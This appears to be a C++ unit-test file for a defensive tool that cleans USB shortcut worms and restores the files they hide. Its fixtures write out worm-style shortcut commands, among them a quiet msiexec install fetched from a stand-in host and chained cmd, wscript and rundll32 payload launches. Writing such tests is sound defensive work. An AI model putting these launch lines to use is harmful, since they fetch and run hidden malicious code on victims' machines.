// The shortcut-worm rule of the root walk: sticks laid out like the worm
// families, with shortcuts that give their target by each part of a link,
// and the user's own shortcuts and files beside them.
#include <gtest/gtest.h>

#include "tests/testing/link_writer.h"
#include "sweep_fixture.h"

namespace veltrano::sweep::testing {
namespace {

using fs::kAttrDirectory;
using fs::kAttrHidden;
using fs::kAttrSystem;
using fs::kDriveFixed;
using fs::kDriveRemovable;

constexpr fs::Attributes kHiddenSystem = kAttrHidden | kAttrSystem;
constexpr std::string_view kNbsp = "\xC2\xA0";  // U+00A0, a name that shows as blank

// Which part of the link gives its target.
enum class TargetBy { kIdList, kLinkInfo, kEnvironment };

std::string Describe(const ::testing::TestParamInfo<TargetBy>& info) {
  switch (info.param) {
    case TargetBy::kIdList: return "IdList";
    case TargetBy::kLinkInfo: return "LinkInfo";
    case TargetBy::kEnvironment: return "Environment";
  }
  return "?";
}

// A shortcut to `program` in C:\Windows\System32 ("cmd.exe").
LinkShape SystemProgram(TargetBy by, std::string_view program, std::string arguments) {
  LinkShape shape;
  const std::string file(program);
  switch (by) {
    case TargetBy::kIdList: shape.idListTarget = "C:\\Windows\\System32\\" + file; break;
    case TargetBy::kLinkInfo: shape.linkInfoTarget = "C:\\Windows\\System32\\" + file; break;
    case TargetBy::kEnvironment: shape.environmentTarget = "%windir%\\system32\\" + file; break;
  }
  shape.arguments = std::move(arguments);
  return shape;
}

LinkShape Target(std::string path) {
  LinkShape shape;
  shape.idListTarget = std::move(path);
  return shape;
}

class ShortcutWormTest : public SweepTest {
 protected:
  void Link(std::string_view path, const LinkShape& shape,
            fs::Attributes attributes = fs::kAttrArchive) {
    ASSERT_TRUE(mem.AddFile(path, WriteLink(shape).bytes, attributes)) << path;
  }
  std::optional<fs::Attributes> Attributes(std::string_view path) {
    return mem.GetAttributes(path);
  }
  // The user's things on a stick: none of them may change.
  void AddUserShortcuts(char drive) {
    const std::string root = std::string(1, drive) + ":\\";
    mem.AddFile(root + "notes.txt", "notes");
    mem.AddFile(root + "budget.xlsx", "sheet");
    mem.AddFolder(root + "games");
    mem.AddFile(root + "games\\run.exe", "MZ");
    Link(root + "Budget.lnk", Target(root + "budget.xlsx"));
    Link(root + "Editor.lnk", Target("C:\\Program Files\\Editor\\editor.exe"));
    Link(root + "Game.lnk", Target(root + "games\\run.exe"));
    Link(root + "Games folder.lnk", [&] {
      LinkShape shape = Target(root + "games");
      shape.targetIsFolder = true;
      return shape;
    }());
    // The command line of a script the user runs, naming nothing hidden.
    Link(root + "Notes.lnk", SystemProgram(TargetBy::kIdList, "cmd.exe", "/c start notes.txt"));
  }
  void ExpectUserShortcutsKept(char drive) {
    const std::string root = std::string(1, drive) + ":\\";
    for (const char* name : {"notes.txt", "budget.xlsx", "games\\run.exe", "Budget.lnk",
                             "Editor.lnk", "Game.lnk", "Games folder.lnk", "Notes.lnk"}) {
      EXPECT_TRUE(mem.Exists(root + name)) << root + name;
    }
  }
};

class ShortcutWormFamily : public ShortcutWormTest,
                           public ::testing::WithParamInterface<TargetBy> {};

// Three hidden items, a shortcut named like each that starts the hidden
// script and then opens the item; the script also in other places that are
// not this stick.
TEST_P(ShortcutWormFamily, VbsKind) {
  mem.AddDrive('C', kDriveFixed);
  mem.AddDrive('E', kDriveRemovable);
  mem.AddDrive('F', kDriveFixed);
  for (const char* elsewhere : {"C:\\helper.vbs", "F:\\helper.vbs", "F:\\Photos.lnk"}) {
    mem.AddFile(elsewhere, "x", kHiddenSystem);
  }
  mem.AddFolder("E:\\Photos", kHiddenSystem);
  mem.AddFile("E:\\Photos\\cat.jpg", "jpg");
  mem.AddFolder("E:\\Work", kAttrHidden);
  mem.AddFile("E:\\report.docx", "doc", kAttrHidden);
  AddUserShortcuts('E');
  const auto start = [](std::string_view item) {
    return "/c start wscript.exe /e:vbscript helper.vbs & start explorer \"" + std::string(item) +
           "\" & start F:\\helper.vbs & C:\\helper.vbs & exit";
  };
  Link("E:\\Photos.lnk", SystemProgram(GetParam(), "cmd.exe", start("Photos")));
  Link("E:\\Work.lnk", SystemProgram(GetParam(), "cmd.exe", start("Work")));
  Link("E:\\report.docx.lnk", SystemProgram(GetParam(), "cmd.exe",
                                            "/c start helper.vbs&start \"\" \"report.docx\""));
  mem.AddFile("E:\\helper.vbs", "WScript.Echo 1", kHiddenSystem);

  form.menuqim_Click();
  EXPECT_EQ(Findings(), (std::vector<std::string>{
                            "    发现快捷方式病毒：photos.lnk 已清除！",
                            "    发现病毒：helper.vbs 已清除！",
                            "    photos 文件夹恢复成功!",
                            "    发现快捷方式病毒：work.lnk 已清除！",
                            "    work 文件夹恢复成功!",
                            "    发现快捷方式病毒：report.docx.lnk 已清除！",
                            "    report.docx 文件恢复成功!",
                        }));
  EXPECT_EQ(LastLine(), Summary(4));
  EXPECT_EQ(Attributes("E:\\Photos"), kAttrDirectory);
  EXPECT_EQ(Attributes("E:\\Work"), kAttrDirectory);
  EXPECT_EQ(Attributes("E:\\report.docx"), fs::kAttrNormal);
  EXPECT_EQ(mem.Content("E:\\report.docx"), "doc");
  EXPECT_TRUE(mem.Exists("E:\\Photos\\cat.jpg"));
  for (const char* gone : {"E:\\Photos.lnk", "E:\\Work.lnk", "E:\\report.docx.lnk", "E:\\helper.vbs"}) {
    EXPECT_FALSE(mem.Exists(gone)) << gone;
  }
  ExpectUserShortcutsKept('E');
  for (const char* elsewhere : {"C:\\helper.vbs", "F:\\helper.vbs", "F:\\Photos.lnk"}) {
    EXPECT_EQ(Attributes(elsewhere), kHiddenSystem) << elsewhere;
  }
}

// One shortcut named like the drive, to cmd.exe, feeding it an oddly named
// hidden file and then starting msiexec.
TEST_P(ShortcutWormFamily, OneShortcutKind) {
  mem.AddDrive('E', kDriveRemovable);
  AddUserShortcuts('E');
  mem.AddFile("E:\\Bvc.uSB", "payload", kHiddenSystem);
  Link("E:\\KINGSTON.lnk",
       SystemProgram(GetParam(), "cmd.exe",
                     "/RS<Bvc.uSB ^&& msiEXEc /q -i \"http://x.example/6ks/\" & exit"));
  form.menuqim_Click();
  EXPECT_EQ(Findings(), (std::vector<std::string>{"    发现快捷方式病毒：kingston.lnk 已清除！",
                                                  "    发现病毒：bvc.usb 已清除！"}));
  EXPECT_EQ(LastLine(), Summary(2));
  EXPECT_FALSE(mem.Exists("E:\\KINGSTON.lnk"));
  EXPECT_FALSE(mem.Exists("E:\\Bvc.uSB"));
  ExpectUserShortcutsKept('E');
}

// Everything moved into one hidden folder with a blank-looking name, one
// shortcut to rundll32.exe and a hidden DLL in the root. The repair brings
// the folder back.
TEST_P(ShortcutWormFamily, ContainerKind) {
  mem.AddDrive('E', kDriveRemovable);
  const std::string box = "E:\\" + std::string(kNbsp);
  mem.AddFolder(box, kHiddenSystem);
  mem.AddFile(box + "\\thesis.docx", "doc");
  mem.AddFile(box + "\\setup.exe", "MZ");
  mem.AddFile("E:\\UsbCore.dll", "MZ", kHiddenSystem);
  Link("E:\\USB DISK.lnk", SystemProgram(GetParam(), "rundll32.exe",
                                         "\"UsbCore.dll\",DllInstall \"" + std::string(kNbsp) + "\""));
  form.menuqim_Click();
  EXPECT_EQ(Findings(), (std::vector<std::string>{"    发现快捷方式病毒：usb disk.lnk 已清除！",
                                                  "    发现病毒：usbcore.dll 已清除！"}));
  EXPECT_EQ(LastLine(), Summary(2));
  EXPECT_EQ(mem.Names("E:\\"), std::vector<std::string>{std::string(kNbsp)});
  EXPECT_TRUE(mem.Exists(box + "\\setup.exe"));  // the user's program, inside the folder

  form.reudir_Click();
  EXPECT_EQ(Log().front(), "修复丢失文件夹  " + box);
  EXPECT_EQ(LastLine(), " U盘修复完毕,共修复文件夹： 1个！");
  EXPECT_EQ(Attributes(box), kAttrDirectory);
}

INSTANTIATE_TEST_SUITE_P(TargetGivenBy, ShortcutWormFamily,
                         ::testing::Values(TargetBy::kIdList, TargetBy::kLinkInfo,
                                           TargetBy::kEnvironment),
                         Describe);

// Which of a payload and its shortcut the listing shows first changes
// nothing: the payload is removed once, with the shortcut, and a payload
// another rule removed first still makes the shortcut a worm's.
class PayloadOrder : public ShortcutWormTest, public ::testing::WithParamInterface<bool> {};

TEST_P(PayloadOrder, PayloadBeforeOrAfterItsShortcut) {
  const bool payloadFirst = GetParam();
  mem.AddDrive('E', kDriveRemovable);
  if (payloadFirst) mem.AddFile("E:\\svchost.exe", "MZ", kHiddenSystem);
  // No hidden twin: only the payload makes this a worm's shortcut.
  Link("E:\\Music.lnk", SystemProgram(TargetBy::kEnvironment, "cmd.exe",
                                      "/c start svchost.exe & start sub\\tool.js & explorer Music"));
  mem.AddFolder("E:\\Music");
  mem.AddFile("E:\\sub\\tool.js", "js");  // visible, but a script the shortcut starts
  if (!payloadFirst) mem.AddFile("E:\\svchost.exe", "MZ", kHiddenSystem);
  form.menuqim_Click();
  if (payloadFirst) {
    EXPECT_EQ(Findings(), (std::vector<std::string>{"    发现可疑病毒：svchost.exe 已清除！",
                                                    "    发现快捷方式病毒：music.lnk 已清除！",
                                                    "    发现病毒：sub\\tool.js 已清除！"}));
  } else {
    EXPECT_EQ(Findings(), (std::vector<std::string>{"    发现快捷方式病毒：music.lnk 已清除！",
                                                    "    发现病毒：svchost.exe 已清除！",
                                                    "    发现病毒：sub\\tool.js 已清除！"}));
  }
  EXPECT_EQ(LastLine(), Summary(3));
  EXPECT_EQ(mem.Names("E:\\"), (std::vector<std::string>{"Music", "sub"}));
}

INSTANTIATE_TEST_SUITE_P(Listing, PayloadOrder, ::testing::Bool(),
                         [](const auto& info) { return info.param ? "PayloadFirst" : "LinkFirst"; });

TEST_F(ShortcutWormTest, ShortcutsThatAreNoWormsStay) {
  mem.AddDrive('E', kDriveRemovable);
  mem.AddFolder("E:\\docs", kAttrHidden);
  mem.AddFile("E:\\tool.exe", "MZ", kAttrHidden);
  mem.AddFile("E:\\x.vbs", "v");  // visible
  // A twin's shortcut to a program elsewhere, to a document, to the hidden
  // program itself; unreadable and damaged links; a cmd line naming only a
  // visible script; a link that is a file-system link; a folder named *.lnk.
  Link("E:\\docs.lnk", Target("C:\\Program Files\\Viewer\\viewer.exe"));
  Link("E:\\tool.exe.lnk", Target("E:\\tool.exe"));
  mem.AddFile("E:\\broken.lnk", "not a link at all");
  const std::string whole = WriteLink(SystemProgram(TargetBy::kIdList, "cmd.exe", "/c x.vbs")).bytes;
  mem.AddFile("E:\\cut.lnk", whole.substr(0, whole.size() / 2));
  Link("E:\\script.lnk", SystemProgram(TargetBy::kIdList, "wscript.exe", "x.vbs"));
  mem.AddLink("E:\\elsewhere.lnk", "C:\\Windows\\System32\\cmd.exe");
  mem.AddFolder("E:\\folder.lnk", kAttrHidden);
  form.menuqim_Click();
  EXPECT_TRUE(Findings().empty()) << Findings().front();
  EXPECT_EQ(LastLine(), Summary(0));
  EXPECT_EQ(mem.Names("E:\\").size(), 10u);
  EXPECT_EQ(Attributes("E:\\docs"), kAttrDirectory | kAttrHidden);
  EXPECT_EQ(Attributes("E:\\tool.exe"), kAttrHidden);
}

// C: is never judged, D: and later letters in both sweeps; what a shortcut
// names on another drive is never touched.
TEST_F(ShortcutWormTest, DrivesAndLetters) {
  for (char d : std::string("CD")) {
    mem.AddDrive(d, kDriveFixed);
    const std::string root = std::string(1, d) + ":\\";
    mem.AddFolder(root + "data", kAttrHidden);
    mem.AddFile(root + "a.vbs", "", kHiddenSystem);
    Link(root + "data.lnk", SystemProgram(TargetBy::kIdList, "cmd.exe",
                                          "/c start a.vbs & start C:\\a.vbs & explorer data"));
  }
  form.menukhdd_Click();
  EXPECT_EQ(Findings(), (std::vector<std::string>{"    发现快捷方式病毒：data.lnk 已清除！",
                                                  "    发现病毒：a.vbs 已清除！",
                                                  "    data 文件夹恢复成功!"}));
  EXPECT_EQ(mem.Names("C:\\"), (std::vector<std::string>{"data", "a.vbs", "data.lnk"}));
  EXPECT_EQ(Attributes("C:\\a.vbs"), kHiddenSystem);
  EXPECT_EQ(mem.Names("D:\\"), std::vector<std::string>{"data"});
}

TEST_F(ShortcutWormTest, FailuresAreReportedAsFailures) {
  mem.AddDrive('E', kDriveRemovable);
  mem.AddFile("E:\\paper.doc", "doc", kAttrHidden);
  mem.AddFile("E:\\run.js", "js", kAttrHidden);
  Link("E:\\paper.doc.lnk", SystemProgram(TargetBy::kIdList, "wscript.exe", "run.js"));
  mem.SetInUse("E:\\paper.doc.lnk", true);
  mem.SetInUse("E:\\run.js", true);
  mem.SetAccessDenied("E:\\paper.doc", true);
  form.menuqim_Click();
  EXPECT_EQ(Findings(), (std::vector<std::string>{"    发现快捷方式病毒：paper.doc.lnk 清除失败！",
                                                  "    发现病毒：run.js 清除失败！",
                                                  "    paper.doc 文件恢复失败!"}));
  EXPECT_EQ(LastLine(), Summary(0));
}

}  // namespace
}  // namespace veltrano::sweep::testing
